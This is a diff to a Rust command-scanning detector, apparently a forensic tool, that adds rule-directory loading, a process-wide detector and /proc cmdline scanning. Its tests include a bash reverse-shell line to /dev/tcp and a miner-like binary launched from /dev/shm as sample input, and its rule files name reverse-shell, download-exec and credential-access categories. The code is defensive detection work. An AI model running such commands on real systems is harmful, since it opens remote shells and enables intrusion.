@@ -7,7 +7,7 @@
 //! hidden file in a world-writable place? Each answer is a [`Hit`] with a category, a severity,
 //! the matched excerpt, a short reason in English and Chinese, and the ATT&CK technique.
 //!
-//! **Detection content is data.** The patterns live in `rules/commands/*.toml` (embedded at
+//! **Detection content is data.** The patterns live in the workspace's `rules/commands/*.toml` (embedded at
 //! build time with `include_str!`) and are compiled once into a [`regex::RegexSet`]; responders
 //! can add their own rule files with [`Detector::with_rules`]. The engine adds three things a
 //! pattern list cannot do alone:
@@ -36,29 +36,32 @@ pub use rules::{RuleError, RuleSet};
 pub const BUILTIN_RULES: &[(&str, &str)] = &[
     (
         "reverse_shell.toml",
-        include_str!("../rules/commands/reverse_shell.toml"),
+        include_str!("../../../rules/commands/reverse_shell.toml"),
     ),
     (
         "download_exec.toml",
-        include_str!("../rules/commands/download_exec.toml"),
+        include_str!("../../../rules/commands/download_exec.toml"),
     ),
     (
         "tunnel_scanner.toml",
-        include_str!("../rules/commands/tunnel_scanner.toml"),
+        include_str!("../../../rules/commands/tunnel_scanner.toml"),
     ),
     (
         "credential_access.toml",
-        include_str!("../rules/commands/credential_access.toml"),
+        include_str!("../../../rules/commands/credential_access.toml"),
     ),
     (
         "anti_forensics.toml",
-        include_str!("../rules/commands/anti_forensics.toml"),
+        include_str!("../../../rules/commands/anti_forensics.toml"),
     ),
     (
         "persistence_edit.toml",
-        include_str!("../rules/commands/persistence_edit.toml"),
+        include_str!("../../../rules/commands/persistence_edit.toml"),
     ),
-    ("misc.toml", include_str!("../rules/commands/misc.toml")),
+    (
+        "misc.toml",
+        include_str!("../../../rules/commands/misc.toml"),
+    ),
 ];
 
 /// Longest command examined, in bytes; longer input is cut (a hostile history line can be huge).
@@ -129,6 +132,40 @@ impl Detector {
         Ok(Detector {
             rules: RuleSet::compile(&sources)?,
         })
+    }
+
+    /// The built-in rules plus every `*.toml` file in `dir` (a directory the responder supplies,
+    /// read from the responder's own machine — not evidence).
+    ///
+    /// # Errors
+    /// When the directory cannot be read or a rule file is invalid.
+    pub fn with_rule_dir(dir: &std::path::Path) -> Result<Self, RuleError> {
+        let io_err = |e: std::io::Error, path: &std::path::Path| RuleError::Syntax {
+            file: path.display().to_string(),
+            message: e.to_string(),
+        };
+        let mut files: Vec<(String, String)> = Vec::new();
+        let entries = std::fs::read_dir(dir).map_err(|e| io_err(e, dir))?;
+        for entry in entries {
+            let path = entry.map_err(|e| io_err(e, dir))?.path();
+            if path.extension().is_some_and(|x| x == "toml") {
+                let text = std::fs::read_to_string(&path).map_err(|e| io_err(e, &path))?;
+                files.push((path.display().to_string(), text));
+            }
+        }
+        files.sort();
+        let borrowed: Vec<(&str, &str)> = files
+            .iter()
+            .map(|(n, t)| (n.as_str(), t.as_str()))
+            .collect();
+        Self::with_rules(&borrowed)
+    }
+
+    /// A detector with no rules (only the decoding and structure passes).
+    pub fn empty() -> Self {
+        Detector {
+            rules: RuleSet::empty(),
+        }
     }
 
     /// Number of rules loaded.
@@ -211,16 +248,50 @@ pub(crate) fn excerpt(s: &str) -> String {
     }
 }
 
+/// The process-wide detector behind [`scan`]: set once, by [`install`] or on first use.
+static DETECTOR: OnceLock<Option<Detector>> = OnceLock::new();
+
 fn builtin_detector() -> Option<&'static Detector> {
-    static DETECTOR: OnceLock<Option<Detector>> = OnceLock::new();
     DETECTOR.get_or_init(|| Detector::builtin().ok()).as_ref()
 }
 
-/// Scans one command with the built-in rules (compiled once per process). See [`Detector::scan`].
+/// Makes `detector` (e.g. built-in plus the responder's rule files, see
+/// [`Detector::with_rule_dir`]) the one [`scan`] uses. Must be called before the first scan;
+/// returns the detector back if one is already in use.
+///
+/// # Errors
+/// The detector, unchanged, when [`scan`] already ran or another detector was installed.
+pub fn install(detector: Detector) -> Result<(), Detector> {
+    DETECTOR
+        .set(Some(detector))
+        .map_err(|rejected| rejected.unwrap_or_else(Detector::empty))
+}
+
+/// Scans one command with the process-wide detector (the built-in rules compiled once, unless
+/// [`install`] put another there). See [`Detector::scan`].
 pub fn scan(command: &str) -> Vec<Hit> {
     builtin_detector()
         .map(|d| d.scan(command))
         .unwrap_or_default()
+}
+
+/// Scans a process's argument vector (e.g. `/proc/PID/cmdline` split on NUL). Arguments are
+/// joined with spaces, so a `bash -c '…'` payload is scanned as the command it is.
+pub fn scan_argv<S: AsRef<str>>(argv: &[S]) -> Vec<Hit> {
+    let joined: Vec<&str> = argv.iter().map(AsRef::as_ref).collect();
+    scan(&joined.join(" "))
+}
+
+/// Splits a raw `/proc/PID/cmdline` (NUL-separated, possibly NUL-terminated, maybe not UTF-8)
+/// and scans it.
+pub fn scan_cmdline_bytes(raw: &[u8]) -> Vec<Hit> {
+    let text = String::from_utf8_lossy(raw);
+    let args: Vec<&str> = text
+        .trim_end_matches('\0')
+        .split('\0')
+        .filter(|a| !a.is_empty())
+        .collect();
+    scan_argv(&args)
 }
 
 /// The worst severity among `hits`.
@@ -296,6 +367,16 @@ mod tests {
     }
 
     #[test]
+    fn process_command_lines() {
+        let hits = scan_argv(&["bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/443 0>&1"]);
+        assert!(hits.iter().any(|h| h.category == "reverse_shell"));
+        let hits = scan_cmdline_bytes(b"/dev/shm/.x/kworker\0-o\0pool.example:3333\0");
+        assert!(hits.iter().any(|h| h.category == "exec_from_writable"));
+        assert!(scan_cmdline_bytes(b"/usr/sbin/sshd\0-D\0").is_empty());
+        assert!(scan_cmdline_bytes(b"\xff\0\0").is_empty());
+    }
+
+    #[test]
     fn hostile_input_does_not_panic() {
         let long = "A".repeat(MAX_COMMAND_BYTES + 10);
         let _ = scan(&long);
@@ -320,5 +401,14 @@ reason_zh = "内部红队工具"
         assert!(hits.iter().any(|h| h.rule == "local.evil_tool"));
         let bad = Detector::with_rules(&[("bad.toml", "[[rule]]\nid = 'x'\npattern = '('\n")]);
         assert!(bad.is_err());
+        let dir = std::env::temp_dir().join(format!("huoyan-cmdscan-rules-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).expect("mkdir");
+        std::fs::write(dir.join("local.toml"), extra).expect("write");
+        let from_dir = Detector::with_rule_dir(&dir).expect("dir rules");
+        assert!(from_dir
+            .scan("evil-tool")
+            .iter()
+            .any(|h| h.rule == "local.evil_tool"));
+        std::fs::remove_dir_all(&dir).expect("cleanup");
     }
 }
